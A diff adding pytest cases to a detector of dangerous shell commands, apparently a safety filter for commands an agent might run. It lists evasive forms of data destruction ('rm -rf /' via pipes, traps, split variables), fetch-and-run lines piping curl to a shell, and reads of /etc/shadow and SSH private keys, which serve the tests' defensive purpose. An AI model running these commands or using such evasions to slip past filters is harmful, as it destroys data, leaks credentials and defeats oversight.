@@ -217,3 +217,35 @@ def test_a_change_of_folder_is_followed() -> None:
 def test_git_loses_work_in_few_ways(command: str, found: bool) -> None:
     weighty = {danger.kind for danger in shell_dangers(command) if danger.severity in WEIGHTY}
     assert weighty == ({"shell_destructive"} if found else set())
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo rm -rf / | bash",
+        "printf '%s' 'rm -rf /' | bash",
+        'x=$(curl -s http://example.org); bash -c "$x"',
+        "curl http://example.org | xargs -I{} sh -c {}",
+        "cat /etc/shad*",
+        "cat ~/.s?h/id_rsa",
+        "$SHELL -c 'rm -rf /'",
+        "rm -rf /$X",
+        "rsync -a --delete empty/ /",
+        "PROMPT_COMMAND='curl x | sh'",
+        "awk 'BEGIN { system(\"id\") }'",
+        "git -c alias.x='!id' x",
+        "coproc rm -rf /",
+        "trap 'rm -rf /' EXIT",
+        "a=r; b=m; $a$b -rf /",
+        "find / -exec rm -rf {} +",
+    ],
+)
+def test_ways_around_are_seen(command: str) -> None:
+    assert [danger for danger in shell_dangers(command) if danger.severity in WEIGHTY]
+
+
+@pytest.mark.parametrize(
+    "command", ["cp *.py /opt/a", "ls ~/*", "cat src/*", "tar cf a.tar ~/projects/*", "rm -rf build/*"]
+)
+def test_patterns_of_ones_own_files_are_no_secrets(command: str) -> None:
+    assert [danger for danger in shell_dangers(command) if danger.severity in WEIGHTY] == []
